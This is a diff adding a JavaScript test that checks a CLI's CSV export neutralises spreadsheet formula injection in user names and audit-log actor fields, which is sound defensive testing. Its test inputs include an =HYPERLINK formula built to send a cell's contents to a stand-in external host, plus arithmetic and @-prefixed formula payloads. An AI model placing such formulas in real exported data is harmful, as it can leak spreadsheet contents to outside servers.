@@ -123,6 +123,21 @@ test('CSV has a header of the JSON keys and quotes what it must', async () => {
   expect(event).toContain('"{""fields"":[""username"",""email"",""firstName"",""lastName"",""password""]}"');
 });
 
+test('no text of CSV is a formula to a spreadsheet: of a user or an event', async () => {
+  const { run, add } = await sceneWithAlice();
+  await add('bob');
+  const formula = '=HYPERLINK("http://example.org/?"&A1,"Bob")';
+  await run(['user', 'set', 'bob', '--first-name', formula, '--last-name', '-1+2']);
+  const { stdout } = await run('user list -o csv --search bob');
+  expect(stdout).toContain(`,"'=HYPERLINK(""http://example.org/?""&A1,""Bob"")",'-1+2,`);
+  expect((await run('user show bob -o csv')).stdout).toBe(stdout);
+
+  expect((await run(['user', 'list', '-o', 'csv', '--actor', '@SUM(1)'])).exitCode).toBe(0);
+  await run(['user', 'disable', 'bob', '--actor', '@SUM(1)']);
+  const events = await run('audit show --action user.disable -o csv');
+  expect(events.stdout).toMatch(/,'@SUM\(1\),/);
+});
+
 test('ids are alone on their lines, to be piped back', async () => {
   const { run, add, user } = await sceneWithAlice();
   await add('bob');
